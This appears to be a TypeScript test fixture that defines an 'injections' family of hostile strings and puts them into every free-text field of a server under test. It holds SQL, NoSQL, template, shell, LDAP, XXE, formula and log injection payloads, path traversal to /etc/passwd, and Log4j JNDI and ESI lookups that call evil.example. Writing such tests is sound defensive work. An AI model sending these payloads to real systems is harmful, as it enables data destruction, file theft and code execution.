import { eachInFreeFields } from '../every-field.ts';
import type { Family } from '../hostile-case.ts';

/** Texts that mean something to a program behind the server, or beside it. */
const texts: Readonly<Record<string, string>> = {
  'the end of an SQL statement': "Robert'); DROP TABLE leads;--",
  'an SQL condition': "' OR '1'='1' /*",
  'an SQL union': "' UNION SELECT sqlite_version(), pg_sleep(10)--",
  'SQL in dollar quotes': "$$; select pg_sleep(10); $$ \\'; --",
  'a placeholder of SQL': '$1 ? :name @name ?1',
  'a condition of MongoDB': '{"$gt": "", "$where": "sleep(1000)"}',
  'a template of Mustache': '{{constructor.constructor("return process")().exit()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become anything else here, either
  'a template of JavaScript': '${process.exit(1)} `${1}`',
  'a template of ERB': '<%= system("id") %> #{7*7} *{7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not become anything else here, either
  'a lookup of Log4j': '${jndi:ldap://evil.example/a} ${${lower:j}ndi:dns://evil.example}',
  'a formula': "=cmd|' /C calc'!A0",
  'a formula behind a plus': '+HYPERLINK("https://evil.example","Pay")',
  'a formula behind a minus': '-2+3+cmd|/C calc!A0',
  'a formula behind an at': '@SUM(1+1)*cmd|/C calc!A0',
  'a formula behind a quote': '"=1+1","=2+2"',
  'orders to a shell': '; id; `id` $(id) | id && id > /tmp/x',
  'an option': '--help -oProxyCommand=id',
  'a path': '../../../../etc/passwd\\..\\..\\boot.ini',
  'a filter of LDAP': '*)(uid=*))(|(uid=*',
  'a place of printf': '%s%s%s%n%x%99999d %c%o%O%j %%',
  'a line of the log': '"}\n{"level":"fatal","msg":"the server is down"}',
  'an external entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'an include of the server': '<!--#exec cmd="id"--><esi:include src="https://evil.example/"/>',
  'a nested repetition': `${'a'.repeat(60)}!${'.'.repeat(60)}@`,
  'the sentence that means no message': 'Requested service: . Page: . Page: . Page: x y',
  'a link': '[Pay](javascript:alert(1)) ![](https://evil.example/x.png) http://evil.example',
};

export const injections: Family = {
  name: 'injections',
  cases: eachInFreeFields(texts),
};
